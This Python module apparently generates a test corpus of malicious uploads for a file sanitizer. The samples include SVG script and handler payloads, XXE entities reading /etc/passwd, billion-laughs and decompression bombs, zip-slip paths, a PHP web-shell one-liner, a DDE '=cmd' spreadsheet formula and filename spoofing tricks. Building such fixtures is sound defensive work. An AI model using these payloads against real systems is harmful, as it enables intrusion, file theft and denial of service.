"""Files that somebody might upload to do harm: what they are called, what they hold, and what is to become of them.

`REFUSED` ones are answered in words. Of a `CLEANED` one a picture is kept, in which nothing of the harmful part is left.
"""

import gzip
import struct
import zlib
from collections.abc import Iterator
from io import BytesIO
from typing import NamedTuple
from zipfile import ZIP_DEFLATED, ZipFile

import openpyxl
from PIL import ExifTags, PngImagePlugin
from PIL import Image as Pillow

REFUSED, CLEANED = "refused", "cleaned"
MARK = "alert(2931)"
"""What stands in the harmful part of each file that is cleaned."""
SCRIPT = f"<script>{MARK}</script>"
ELSEWHERE = "http://192.0.2.1/2931"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
TEMPLATE = f'<Relationship Id="r" Type="x/attachedTemplate" Target="{ELSEWHERE}" TargetMode="External"/>'
TEXT = "application/vnd.oasis.opendocument.text"
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n"


class File(NamedTuple):
    name: str
    content: bytes
    end: str = REFUSED


def pictures() -> Iterator[File]:
    jpeg, png, webp = (photograph(kind) for kind in ("JPEG", "PNG", "WEBP"))
    yield from nothing_of_the_kind("picture.jpg")
    for name, content in {"jpg": jpeg, "png": png, "webp": webp}.items():
        yield File(f"half.{name}", content[: len(content) // 2])
        yield File(f"only the beginning.{name}", content[:24])
    yield File("a wrong checksum.png", png[:40] + bytes([png[40] ^ 255]) + png[41:])
    yield File("50,000 by 50,000.png", png_of(50_000, 50_000))
    yield File("no pixel.png", png_of(0, 0))
    yield File("2^31 pixels wide.png", png_of(2**31 - 1, 1))
    yield File("51 million pixels, two kilobytes.png", really_large(8_000, 6_400))
    yield File("65,535 by 65,535.jpg", jpeg_that_says(jpeg, 65_535, 65_535))
    yield File("a text of 200 MB.png", with_chunk(png, b"zTXt", b"Comment\0\0" + zlib.compress(bytes(200_000_000), 9)))
    yield File("a profile that unpacks for ever.png", with_chunk(png, b"iCCP", b"x\0\0" + zlib.compress(bytes(200_000_000), 9)))
    yield File("12 MB and more.jpg", jpeg + bytes(12 * 1024 * 1024))
    for kind in ("GIF", "BMP", "TIFF", "ICO", "PCX", "TGA", "JPEG2000"):
        yield File(f"{kind}.jpg", photograph(kind))
    yield File("PostScript.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n%%EOF")
    yield File("ImageMagick.png", f'push graphic-context\nimage over 0,0 0,0 "{ELSEWHERE}"\npop graphic-context'.encode())
    yield File("a film.webp", film("WEBP"), CLEANED)
    yield File("a film of 500 frames.png", film("PNG", 500), CLEANED)
    yield File("a page behind it.jpg", jpeg + SCRIPT.encode(), CLEANED)
    yield File("a page in its comment.jpg", commented(jpeg, SCRIPT.encode()), CLEANED)
    yield File("PHP in its text.png", with_text(png), CLEANED)
    yield File("an archive behind it.png", png + archive({"evil.js": MARK}), CLEANED)
    yield File("where it was taken.jpg", with_a_place(), CLEANED)
    yield File("../../etc/passwd.png", png + MARK.encode(), CLEANED)
    yield File("picture.php\0.png", png + MARK.encode(), CLEANED)
    yield File("\u202egnp.exe.png", png + MARK.encode(), CLEANED)
    yield from drawings()


def drawings() -> Iterator[File]:
    yield File("a thousand million laughs.svg", entities(LAUGHS))
    yield File("a file of the server.svg", entities('<!ENTITY l9 SYSTEM "file:///etc/passwd">'))
    yield File("a file of elsewhere.svg", entities(f'<!ENTITY l9 SYSTEM "{ELSEWHERE}">'))
    yield File("a definition of elsewhere.svg", f'<!DOCTYPE svg SYSTEM "{ELSEWHERE}">'.encode() + drawing(), CLEANED)
    yield File("10,000 within each other.svg", drawing("<g>" * 10_000 + "</g>" * 10_000))
    yield File("of 600 kB.svg", drawing("<g/>" * 150_000))
    yield File("without a size.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>')
    yield File("of no size that is.svg", drawing(size='viewBox="0 0 1e999 NaN"'))
    yield File("half.svg", drawing("<g>")[:-20])
    yield File("packed.svgz", gzip.compress(drawing()))
    yield File("in other letters.svg", drawing(SCRIPT).decode().encode("utf-16"))
    yield File("a handler that is set.svg", drawing(f'<rect><set attributeName="onmouseover" to="{MARK}"/></rect>'))
    animation = f'<animate attributeName="href" values="javascript:{MARK}"/>'
    yield File("an address that is animated.svg", drawing(f"<a>{animation}<text>x</text></a>"))
    harmful = {
        "a script": SCRIPT,
        "a script in its own name space": f'<x:script xmlns:x="http://www.w3.org/2000/svg">{MARK}</x:script>',
        "a script of another file": f'<script href="{ELSEWHERE}?{MARK}"/>',
        "a handler": f'<rect onload="{MARK}" width="1" height="1"/>',
        "a link that acts": f'<a href="javascript:{MARK}"><text>x</text></a>',
        "a link that acts, in capitals": f'<a xlink:href="JaVa&#x53;cript:{MARK}" xmlns:xlink="http://www.w3.org/1999/xlink"/>',
        "a page within": f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">{SCRIPT}</body></foreignObject>',
        "a frame": f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="{MARK}"/></foreignObject>',
        "a picture of elsewhere": f'<image href="{ELSEWHERE}?{MARK}" width="9" height="9"/>',
        "a part of elsewhere": f'<use href="{ELSEWHERE}?{MARK}#x"/>',
        "a style of elsewhere": f'<style>@import "{ELSEWHERE}?{MARK}";</style>',
        "a filling of elsewhere": f'<rect style="fill:url({ELSEWHERE}?{MARK}#x)" width="9" height="9"/>',
        "a stylesheet": f'<?xml-stylesheet href="{ELSEWHERE}?{MARK}"?>',
        "a page as data": f'<image href="data:text/html,{MARK}" width="9" height="9"/>',
        "a drawing as data": f'<image href="data:image/svg+xml,&lt;svg onload={MARK}&gt;" width="9" height="9"/>',
    }
    for what, content in harmful.items():
        yield File(f"{what}.svg", drawing(content), CLEANED)


def documents() -> Iterator[File]:
    yield from nothing_of_the_kind("document.pdf")
    yield File("half.pdf", PDF[: len(PDF) // 2])
    yield File("a page before it.pdf", SCRIPT.encode() + PDF)
    yield File("an archive before it.pdf", archive({"evil.js": MARK}) + PDF)
    yield File("50 MB and more.pdf", PDF + bytes(50 * 1024 * 1024) + b"%%EOF")
    word = {"word/document.xml": "<x/>"}
    yield File("half.docx", archive(word)[:-30])
    yield File("macros.docx", archive(word | {"word/vbaProject.bin": "x"}))
    yield File("macros by another name.docx", archive(word | {"word/VBADATA.XML": "x"}))
    yield File("Basic.odt", archive({"mimetype": TEXT, "Basic/Standard/Module1.xml": MARK}))
    yield File("Python.odt", archive({"mimetype": TEXT, "Scripts/python/x.py": MARK}))
    yield File("a template of elsewhere.docx", archive(word | {"word/_rels/settings.xml.rels": TEMPLATE}))
    yield File("a list of links that unpacks for ever.docx", archive(word | {"word/_rels/x.rels": " " * 5_000_000}))
    yield File("600 MB when unpacked.docx", archive(word | {"word/media/a": bytes(600_000_000)}))
    yield File("a way out.docx", archive(word | {"../../etc/cron.d/x": "x"}))
    yield File("from the root.docx", archive(word | {"/etc/cron.d/x": "x"}))
    yield File("a program before it.docx", b"MZ" + bytes(100) + archive(word))
    yield File("locked.docx", locked(archive(word)))
    yield File("a kind that unpacks for ever.odt", archive({"mimetype": TEXT + " " * 10_000_000}))
    yield File("a program of Java.docx", archive({"META-INF/MANIFEST.MF": "x", "Main.class": "x"}))
    yield File("Word as it was.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000))
    yield File("rich text.docx", rb"{\rtf1\object\objautlink}")


def spreadsheets() -> Iterator[File]:
    yield from nothing_of_the_kind("sheet.xlsx")
    whole = workbook()
    yield File("half.xlsx", whole[: len(whole) // 2])
    yield File("a table of other things.xlsx", whole)
    sheet = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
    yield File(
        "a thousand million laughs.xlsx", changed(whole, f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>' + sheet.format("&l9;"))
    )
    yield File(
        "a file of the server.xlsx",
        changed(whole, '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>' + sheet.format("&f;")),
    )
    yield File("a million rows.xlsx", changed(whole, sheet.format("<row><c><v>1</v></c></row>" * 1_048_576)))
    yield File("200 MB when unpacked.xlsx", changed(whole, sheet.format(" " * 200_000_000)))
    yield File("a row of 16,384 cells.xlsx", changed(whole, sheet.format('<row><c r="XFD1"><v>1</v></c></row>')))
    yield File("locked.xlsx", locked(whole))


def nothing_of_the_kind(name: str) -> Iterator[File]:
    for what, content in {
        "nothing": b"",
        "a word": b"x",
        "zeros": bytes(5_000),
        "a page": f"<!doctype html>{SCRIPT}".encode(),
        "a program of Windows": b"MZ\x90\0" + bytes(500),
        "a program of Linux": b"\x7fELF" + bytes(500),
        "PHP": b"<?php system($_GET['c']); ?>",
        "an archive": archive({"a.txt": "a"}),
        "an archive in an archive": archive({"a.zip": archive({"b.zip": bytes(1_000)})}),
    }.items():
        yield File(f"{what}, {name}", content)


# How they are made


def photograph(kind: str = "JPEG") -> bytes:
    buffer = BytesIO()
    Pillow.radial_gradient("L").convert("RGB").save(buffer, kind)
    return buffer.getvalue()


def film(kind: str, frames: int = 30) -> bytes:
    first, *others = (Pillow.new("RGB", (8, 8), (n % 256, 0, 0)) for n in range(frames))
    buffer = BytesIO()
    first.save(buffer, kind, save_all=True, append_images=others)
    return buffer.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, data: bytes = b"\0") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(data, 9)) + chunk(b"IEND", b"")


def really_large(width: int, height: int) -> bytes:
    return png_of(width, height, bytes((width + 1) * height))


def with_chunk(png: bytes, kind: bytes, data: bytes) -> bytes:
    return png[:33] + chunk(kind, data) + png[33:]


def with_text(png: bytes) -> bytes:
    texts, buffer = PngImagePlugin.PngInfo(), BytesIO()
    texts.add_text("Comment", f"<?php {MARK} ?>")
    Pillow.open(BytesIO(png)).save(buffer, "PNG", pnginfo=texts)
    return buffer.getvalue()


def with_a_place() -> bytes:
    exif, buffer = Pillow.Exif(), BytesIO()
    exif[ExifTags.Base.ImageDescription] = MARK
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] = (27.0, 0.0, 0.0)
    Pillow.new("RGB", (8, 8)).save(buffer, "JPEG", exif=exif)
    return buffer.getvalue()


def commented(jpeg: bytes, comment: bytes) -> bytes:
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + jpeg[2:]


def jpeg_that_says(jpeg: bytes, width: int, height: int) -> bytes:
    start = jpeg.index(b"\xff\xc0") + 5
    return jpeg[:start] + struct.pack(">HH", height, width) + jpeg[start + 4 :]


def drawing(content: str = "", size: str = 'viewBox="0 0 30 10"') -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg" {size}>{content}<rect width="9" height="9"/></svg>'.encode()


def entities(definitions: str) -> bytes:
    return f'<!DOCTYPE svg [<!ENTITY l0 "ha">{definitions}]>'.encode() + drawing("<text>&l9;</text>")


def archive(members: dict[str, str | bytes]) -> bytes:
    buffer = BytesIO()
    with ZipFile(buffer, "w", ZIP_DEFLATED) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return buffer.getvalue()


def locked(content: bytes) -> bytes:
    """As if each member were encrypted: a flag in both places where it stands."""
    content = bytearray(content)
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(signature)
        while at >= 0:
            content[at + place] |= 1
            at = content.find(signature, at + 4)
    return bytes(content)


def workbook() -> bytes:
    book, buffer = openpyxl.Workbook(), BytesIO()
    book.active.append([f'=HYPERLINK("{ELSEWHERE}")', "=cmd|'/c calc'!A1", "@SUM(1)"])
    book.save(buffer)
    return buffer.getvalue()


def changed(book: bytes, sheet: str) -> bytes:
    with ZipFile(BytesIO(book)) as file:
        return archive({name: file.read(name) for name in file.namelist()} | {"xl/worksheets/sheet1.xml": sheet})
